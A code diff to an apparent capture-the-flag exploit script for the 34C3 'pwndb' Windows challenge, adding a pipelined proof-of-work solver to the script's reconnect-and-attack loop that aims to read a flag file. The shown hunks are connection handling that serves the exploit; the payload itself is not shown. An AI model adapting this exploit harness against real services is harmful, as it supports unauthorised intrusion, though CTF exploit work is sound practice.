@@ -2,10 +2,12 @@ import subprocess, time, string, itertools, struct, random, ast, sys, tempfile,
 from subprocess import Popen, PIPE
 from wintools import hash_both, nasm, api_call_stub
 from pwnlib.tools import x86_64, connect, send, ru, sendln, get_socket
-#from pow import solve_proof_of_work
+import pwnlib.tools
 
 LOGGING = False
 BINARY = 'Z:/34c3ctf/pwndb/db/x64/Release/pwndb.exe'
+# seconds a pipelined PoW answer stays usable, below pow.py serve's --timeout
+POW_MAX_AGE = 50
 #FLAG_FILE = r'C:\Users\niklasb\flag.txt'
 FLAG_FILE = r'C:\flag.txt'
 
@@ -414,18 +416,34 @@ def pwn(query, multiquery):
 if len(sys.argv) > 2:
 	host = sys.argv[1]
 	port = int(sys.argv[2])
+	pipeline = None
+	if '--pow' in sys.argv:
+		# pow.py next to this script is only a placeholder for the real one
+		sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
+			'../../proof_of_work'))
+		from pow import PowPipeline
+		# keeps the next connection's PoW solving while an attempt runs
+		pipeline = PowPipeline(host, port, max_age=POW_MAX_AGE)
 	while True:
 		print "[*] Connecting to %s:%d" % (host, port)
 		# sock = socket.create_connection((host, port))
-		connect(host=host, port=port)
-		get_socket().settimeout(2)
-
-		if '--pow' in sys.argv:
-			ru('challenge: ')
-			chall=ru('\n').strip()
+		if pipeline is None:
+			connect(host=host, port=port)
+		else:
 			print 'Solving PoW...'
-			sendln(solve_proof_of_work(chall))
+			sock = pipeline.next()
+			# like connect(): drop the previous attempt's session first
+			if get_socket() is not None:
+				try:
+					get_socket().close()
+				except Exception:
+					pass
+			pwnlib.tools.THE_SOCKET = sock
+			pwnlib.tools.THE_TARGET = (host, port)
 			print 'Done.'
+		get_socket().settimeout(2)
+
+		if pipeline is not None:
 			ru('over.\n')
 			time.sleep(1)
 